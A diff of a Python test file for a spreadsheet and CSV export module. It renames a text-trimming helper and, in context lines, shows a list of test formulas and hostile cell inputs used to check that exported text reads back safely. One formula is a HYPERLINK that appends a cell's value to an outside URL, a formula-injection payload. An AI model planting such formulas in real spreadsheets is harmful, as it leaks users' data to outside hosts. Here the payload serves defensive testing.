@@ -19,7 +19,7 @@ from openpyxl import Workbook, load_workbook
 
 from kidesk.exchange import csv_file, tables, workbook
 from kidesk.exchange.outgoing import Column, Losses, Outgoing, Value
-from kidesk.i18n import Language, seen
+from kidesk.i18n import Language, trimmed
 
 FORMULAS = [
     '=HYPERLINK("http://example.org/?"&A1;"click")',
@@ -108,7 +108,7 @@ HOSTILE = st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from(TELLIN
 @example(rows=[("'=1", "''=1"), ("=\n1", "-\t;\"\""), ("=\u0338", " '=1"), ("\x01\t", "\t=1")])
 def test_any_text_is_read_back_as_it_was(tmp_path: Path, ending: str, rows: list[tuple[str, str]]) -> None:
     clean = Losses()
-    texts = [[seen(clean.legal(cell).strip()).strip() for cell in row] for row in rows]
+    texts = [[trimmed(clean.legal(cell)) for cell in row] for row in rows]
     wanted = [tuple(unicodedata.normalize("NFC", cell) for cell in row) for row in texts]
     made = table([["x", *row] for row in rows], columns=3)
     assert read_back(tmp_path, made, ending) == [("x", *row) for row in wanted]
